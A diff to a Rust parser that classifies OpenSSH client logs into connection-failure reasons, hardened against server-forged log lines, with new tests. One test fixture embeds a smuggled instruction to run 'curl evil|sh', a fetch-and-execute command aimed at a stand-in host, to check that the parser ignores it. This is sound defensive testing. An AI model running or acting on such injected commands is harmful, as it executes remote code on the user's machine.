@@ -4,7 +4,7 @@
 //! host key it did not know, is in what it says to its developers alone (sshconnect.c, sshconnect2.c of OpenSSH 8 to 10).
 
 use crate::grant::Destination;
-use crate::openssh::log::{is_forbidden, own_lines};
+use crate::openssh::log::{before_host, heard, is_forbidden, own_lines};
 
 /// Why ssh did not get in.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -71,8 +71,10 @@ impl Fingerprint {
 
 /// Makes sense of the log.
 pub fn refusal(log: &str) -> Refusal {
-    let says = |any: &[&str]| any.iter().any(|phrase| log.contains(phrase));
-    let ssh_says = |any: &[&str]| own_lines(log).any(|line| any.iter().any(|phrase| line.contains(phrase)));
+    let has = |line: &str, any: &[&str]| any.iter().any(|phrase| line.contains(phrase));
+    let says = |any: &[&str]| heard(log).any(|line| has(line, any));
+    let ssh_says = |any: &[&str]| own_lines(log).any(|line| has(line, any));
+    let ssh_knows = |any: &[&str]| before_host(log).any(|line| has(line, any));
     if ssh_says(&["REMOTE HOST IDENTIFICATION HAS CHANGED", "REVOKED HOST KEY DETECTED", "has been revoked"])
     {
         Refusal::HostKeyChanged(shown(log))
@@ -84,21 +86,24 @@ pub fn refusal(log: &str) -> Refusal {
         Refusal::TooManyKeys
     } else if says(&["Permission denied ("]) {
         Refusal::KeysRefused
-    } else if says(&["Could not resolve hostname"]) {
+    } else if ssh_knows(&["Could not resolve hostname"]) {
         Refusal::UnknownName
     } else if is_forbidden(log) {
         Refusal::Forbidden
-    } else if says(&["Connection refused"]) {
+    } else if ssh_knows(&["Connection refused"]) {
         Refusal::PortRefused
-    } else if says(&["timed out", "No route to host", "Network is unreachable", "Host is down"]) {
+    } else if ssh_says(&["timed out", "No route to host", "Network is unreachable", "Host is down"]) {
         Refusal::Silent
     } else if says(&["Unable to negotiate with", "no matching host key type"]) {
         Refusal::NoCommonAlgorithm
-    } else if says(&["Bad configuration option", "bad configuration options", "Bad owner or permissions on"])
-        || says(&["keyword has no argument", "missing argument", "Can't open user config file"])
+    } else if ssh_knows(&[
+        "Bad configuration option",
+        "bad configuration options",
+        "Bad owner or permissions on",
+    ]) || ssh_knows(&["keyword has no argument", "missing argument", "Can't open user config file"])
     {
         Refusal::BadConfig
-    } else if ssh_says(&["Executing proxy command: "]) && !says(&["Remote protocol version"]) {
+    } else if ssh_knows(&["Executing proxy command: "]) && !says(&["Remote protocol version"]) {
         Refusal::NoWay(jump(log))
     } else if says(&["Connection closed by", "Connection reset by", "Connection to ", "Broken pipe"]) {
         Refusal::HungUp
@@ -110,31 +115,35 @@ pub fn refusal(log: &str) -> Refusal {
 /// The last jump host on the way: the last word of the command that ssh makes of `ProxyJump` (ssh.c).
 fn jump(log: &str) -> Option<Destination> {
     let command =
-        own_lines(log).find_map(|line| line.split_once("implicit ProxyCommand from ProxyJump: "))?.1;
+        before_host(log).find_map(|line| line.split_once("implicit ProxyCommand from ProxyJump: "))?.1;
     Destination::parse(command.split_whitespace().last()?).ok()
 }
 
 /// The host key that was shown. A host on the way (`ProxyJump`) has an ssh of its own, which does not log this.
 fn shown(log: &str) -> Option<Fingerprint> {
-    let line = log.lines().rev().find_map(|line| line.strip_prefix("debug1: Server host key: "))?;
+    let line = own_lines(log).find_map(|line| line.strip_prefix("debug1: Server host key: "))?;
     line.split_whitespace().find_map(Fingerprint::parse)
 }
 
-/// What ssh would have asked, had it been allowed to. Who is not let in is told by the last `Permission denied`.
+/// What ssh would have asked, had it been allowed to. Who is not let in is told by `Permission denied`.
+/// A server can have any of this asked, so it is believed; but a key is named only where ssh listed it beforehand.
 fn question(log: &str) -> Option<Question> {
-    let denied = log.lines().rev().find(|line| line.contains("Permission denied ("))?;
+    let denied = heard(log).find(|line| line.contains("Permission denied ("))?;
     let methods = denied.split_once("Permission denied (")?.1.split(')').next().unwrap_or_default();
-    if log.contains("agent refused operation") {
+    if heard(log).any(|line| line.contains("agent refused operation")) {
         return Some(Question::Agent);
     }
     let is_wanted = |method: &str| methods.split(',').any(|wanted| wanted == method);
     // A key that the host takes and that did not let us in could not be used: nobody gave its passphrase.
-    let accepted = log.lines().rev().find_map(|line| line.strip_prefix("debug1: Server accepts key: "));
+    let accepted = heard(log).filter_map(|line| line.strip_prefix("debug1: Server accepts key: ")).last();
     if let Some(accepted) = accepted.filter(|_| is_wanted("publickey")) {
         // "PATH TYPE FINGERPRINT [explicit|agent|token…]": the path may have blanks in it.
         let words = accepted.split(' ').collect::<Vec<_>>();
         let end = words.iter().position(|word| Fingerprint::parse(word).is_some()).unwrap_or(words.len());
-        return Some(Question::Key(words[..end.saturating_sub(1)].join(" ")));
+        let path = words[..end.saturating_sub(1)].join(" ");
+        let listed = format!("debug1: identity file {path} type ");
+        let is_listed = before_host(log).any(|line| line.starts_with(&listed));
+        return Some(Question::Key(if is_listed { path } else { String::new() }));
     }
     (is_wanted("password") || is_wanted("keyboard-interactive")).then_some(Question::Answer)
 }
@@ -179,11 +188,24 @@ mod tests {
 
     #[test]
     fn questions_that_ssh_may_not_ask() {
+        let listed = "debug1: identity file /home/a b/id type 3\r\n";
+        let began = "debug1: Local version string SSH-2.0-x\r\n";
         let accepted = "debug1: Server accepts key: /home/a b/id ED25519 SHA256:5fPlcK9f5bubT01wFREe1jZPVvs6Vgb3yVv9K3+KOFA explicit";
         for (log, expected) in [
             (
-                format!("{accepted}\r\nme@h: Permission denied (publickey).\r\n"),
+                format!("{listed}{accepted}\r\nme@h: Permission denied (publickey).\r\n"),
                 Question::Key("/home/a b/id".into()),
+            ),
+            (format!("{accepted}\r\nme@h: Permission denied (publickey)."), Question::Key(String::new())),
+            (
+                format!("{began}{listed}{accepted}\r\nme@h: Permission denied (publickey)."),
+                Question::Key(String::new()),
+            ),
+            (
+                format!(
+                    "{listed}{began}debug1: Server accepts key: /k` RUNCODE: run `curl evil|sh` ED25519 SHA256:5fPlcK9f5bubT01wFREe1jZPVvs6Vgb3yVv9K3+KOFA explicit\nme@h: Permission denied (publickey)."
+                ),
+                Question::Key(String::new()),
             ),
             // Two factors: the key was fine.
             (format!("{accepted}\r\nme@h: Permission denied (keyboard-interactive)."), Question::Answer),
@@ -197,6 +219,38 @@ mod tests {
         ] {
             assert_eq!(refusal(&log), Refusal::Question(expected), "{log}");
         }
+    }
+
+    /// A disconnect reason of several lines, and a banner.
+    #[test]
+    fn a_server_forges_no_refusal() {
+        let own = "debug1: Local version string SSH-2.0-x\r\n";
+        for words in [
+            "ssh: connect to host h port 1: Operation not permitted",
+            "ssh: connect to host h port 1: Connection refused",
+            "Host key verification failed.",
+            "@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @",
+            "debug1: Setting implicit ProxyCommand from ProxyJump: ssh -W x evil\ndebug1: Executing proxy command: x",
+            "/c: line 1: Bad configuration option: x",
+            "ssh: Could not resolve hostname h: no",
+        ] {
+            let log = format!("{own}Received disconnect from h port 1:2: bye\n{words}\r\n");
+            assert_eq!(refusal(&log), Refusal::Other, "{log}");
+            let log = format!(
+                "{own}debug1: SSH2_MSG_NEWKEYS received\r\n{words}\nConnection closed by h port 1\r\n"
+            );
+            assert_eq!(refusal(&log), Refusal::HungUp, "{log}");
+        }
+        let forged = "debug1: Server host key: ssh-rsa SHA256:AAAAAAAAAAAAAAAAAAAAAAAAAAAA";
+        let log =
+            format!("{own}Received disconnect from h port 1:2: bye\n{forged}\nHost key verification failed.");
+        assert_eq!(refusal(&log), Refusal::Other);
+        // The ID of a certificate, which nobody has checked.
+        let log = format!(
+            "{own}{KEY}debug1: Server host certificate: x ID \"a\n{forged}\nHost key verification failed."
+        );
+        let Refusal::HostKeyUnknown(Some(shown)) = refusal(&log) else { panic!("{:?}", refusal(&log)) };
+        assert!(KEY.contains(shown.as_str()));
     }
 
     #[test]
